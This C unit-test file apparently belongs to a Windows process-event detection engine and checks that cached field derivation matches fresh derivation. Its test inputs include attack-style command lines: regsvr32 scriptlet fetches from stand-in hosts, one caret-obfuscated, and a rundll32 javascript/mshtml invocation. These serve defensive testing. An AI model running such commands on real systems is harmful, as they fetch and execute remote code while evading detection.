/* What is looked up must be what reading would give, whatever came before. */
#include "tests/unit/derive/derived.h"

enum { RUNS = 3000, LONG = 3000 };

/* Beside what is too long to be kept: values that share bytes as read, and do not as copied. */
static char long_line[LONG + 1], long_url[400], long_image[200];

/* Few of each, so that all of it comes again; each input changes what is derived. */
static const char *const lines[] = {
	NULL,
	"regsvr32 /s /u /i:http://a.example/x.sct scrobj.dll",
	"regsvr32.exe /s C:\\Users\\bob\\x.dll",
	"\"C:\\Windows\\System32\\rundll32.exe\" javascript:\"\\..\\mshtml,RunHTMLApplication\"",
	"cmd /c reg^svr32 /s /n /u /i:http://h/a.sct scr^obj.dll",
	"",
	long_line,
	long_url,
	"regsvr32 /s a.dll",
	"rundll32 .\\a.dll,Start",
	"regsvr32 /s %windir%\\%temp%\\%appdata%\\..\\%x%\\%y%\\%z%\\a.jpg",
};
static const char *const images[] = { NULL, "C:\\Windows\\System32\\regsvr32.exe",
	                              "C:\\Users\\bob\\a.exe", "C:\\Windows\\System32\\cmd.exe",
	                              long_image };
static const char *const parents[] = { NULL, "C:\\Windows\\explorer.exe",
	                               "C:\\Users\\bob\\AppData\\Local\\Temp\\w.exe" };
static const char *const folders[] = { NULL, "C:\\Windows\\System32\\", "E:\\",
	                               "C:\\Users\\Public\\" };
static const char *const originals[] = { NULL, "REGSVR32.EXE", "Cmd.Exe" };
static const char *const descriptions[] = { NULL, "Microsoft(C) Register Server" };
static const char *const hashes[] = { NULL, "MD5=00,IMPHASH=0235ff9a007804882636bcccfb4d1a2f" };

static uint32_t seed = 2463534242u;

static uint32_t pick(uint32_t n)
{
	seed ^= seed << 13;
	seed ^= seed >> 17;
	seed ^= seed << 5;
	return seed % n;
}

#define PUT_ONE_OF(d, field, of) derived_put(d, field, (of)[pick(SQ_LEN(of))])

static void make_event(struct derived *d)
{
	derived_init(d);
	PUT_ONE_OF(d, SQ_F_COMMAND_LINE, lines);
	PUT_ONE_OF(d, SQ_F_IMAGE, images);
	PUT_ONE_OF(d, SQ_F_PARENT_IMAGE, parents);
	PUT_ONE_OF(d, SQ_F_CURRENT_DIRECTORY, folders);
	PUT_ONE_OF(d, SQ_F_ORIGINAL_FILE_NAME, originals);
	PUT_ONE_OF(d, SQ_F_DESCRIPTION, descriptions);
	PUT_ONE_OF(d, SQ_F_HASHES, hashes);
	if (pick(8) == 0)
		PUT_ONE_OF(d, SQ_F_COMMAND_LINE, lines); /* a second one */
	if (pick(8) == 0)
		d->arena.used = d->arena.cap - pick(4096);
	if (pick(8) == 0)
		d->ev.n_more = SQ_EVENT_MORE_MAX - pick(16);
}

/* The same event, not derived yet. */
static void make_copy(struct derived *to, const struct derived *from)
{
	derived_init(to);
	memcpy(to->values, from->values, sizeof(to->values));
	memcpy(to->more, from->more, sizeof(to->more));
	to->ev.n_more = from->ev.n_more;
	to->ev.added = from->ev.added;
	to->arena.used = from->arena.used;
}

static void assert_same(const struct derived *a, const struct derived *b)
{
	assert_int_equal(a->ev.flags, b->ev.flags);
	assert_int_equal(a->ev.derived, b->ev.derived);
	assert_int_equal(a->ev.n_more, b->ev.n_more);
	for (uint32_t f = 0; f < SQ_F_CANONICAL; f++) {
		const struct sq_value *v = &a->values[f], *w = &b->values[f];

		for (; v && w; v = sq_event_next(&a->ev, v), w = sq_event_next(&b->ev, w)) {
			assert_int_equal(v->kind, w->kind);
			assert_int_equal(v->n, w->n);
			if (v->n)
				assert_memory_equal(v->p, w->p, v->n);
		}
		assert_true(!v && !w);
	}
}

static void make_long(void)
{
	memset(long_line, 'a', LONG);
	(void)snprintf(long_url, sizeof(long_url),
	               "regsvr32 /s /u /i:http://a.example/%.307s.sct scrobj.dll", long_line);
	(void)snprintf(long_image, sizeof(long_image), "C:\\%.170s.exe", long_line);
}

static void looked_up_is_as_if_it_were_read(void **state)
{
	struct sq_recall *known = sq_recall_new();

	(void)state;
	assert_non_null(known);
	make_long();
	for (int run = 0; run < RUNS; run++) {
		struct derived d, plain;

		make_event(&d);
		make_copy(&plain, &d);
		sq_derive(&plain.ev, &plain.arena, SQ_DERIVE_ALL);
		sq_derive_again(known, &d.ev, &d.arena, SQ_DERIVE_ALL);
		assert_same(&plain, &d);
		derived_fini(&plain);
		derived_fini(&d);
	}
	sq_recall_free(known);
}

/* However much room there is in the arena, to the byte. */
static void with_little_room_it_is_the_same(void **state)
{
	static const char *const tight[] = { long_url, "x", "",
		                             "regsvr32 /s %a%\\%b%\\%c%\\..\\d.dll" };
	struct sq_recall *known = sq_recall_new();

	(void)state;
	assert_non_null(known);
	make_long();
	for (size_t i = 0; i < SQ_LEN(tight); i++) {
		for (size_t room = 4096; room--;) { /* learnt while there is enough */
			struct derived d, plain;

			derived_init(&d);
			derived_put(&d, SQ_F_COMMAND_LINE, tight[i]);
			derived_put(&d, SQ_F_IMAGE, i % 2 ? long_image : images[1]);
			if (room < 4090)
				d.arena.used = d.arena.cap - room;
			make_copy(&plain, &d);
			sq_derive(&plain.ev, &plain.arena, SQ_DERIVE_ALL);
			sq_derive_again(known, &d.ev, &d.arena, SQ_DERIVE_ALL);
			assert_same(&plain, &d);
			derived_fini(&plain);
			derived_fini(&d);
		}
	}
	sq_recall_free(known);
}

static bool is_known(struct sq_recall *known, const char *line)
{
	struct derived d;
	bool r;

	derived_init(&d);
	derived_put(&d, SQ_F_COMMAND_LINE, line);
	r = sq_recall_find(known, &d.ev, &d.arena);
	if (!r) {
		sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
		sq_recall_learn(known, &d.ev, &d.arena);
	}
	derived_fini(&d);
	return r;
}

static void what_came_before_is_known(void **state)
{
	struct sq_recall *known = sq_recall_new();
	char line[64];
	int again = 0;

	(void)state;
	assert_non_null(known);
	make_long();
	assert_false(is_known(known, long_line));
	assert_false(is_known(known, long_line)); /* too long to be kept */
	for (int i = 0; i < 100; i++) {
		(void)snprintf(line, sizeof(line), "tool.exe /number %d", i);
		assert_false(is_known(known, line));
		again += is_known(known, line);
	}
	assert_int_equal(again, 100);
	assert_false(is_known(known, "regsvr32 /s a.dll"));
	assert_false(is_known(known, "regsvr32 /s a.dll")); /* another folder, another library */
	assert_false(is_known(known, "regsvr32 /s C:\\Tools\\a.dll"));
	assert_true(is_known(known, "regsvr32 /s C:\\Tools\\a.dll"));
	sq_recall_free(known);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(looked_up_is_as_if_it_were_read),
		cmocka_unit_test(with_little_room_it_is_the_same),
		cmocka_unit_test(what_came_before_is_known),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
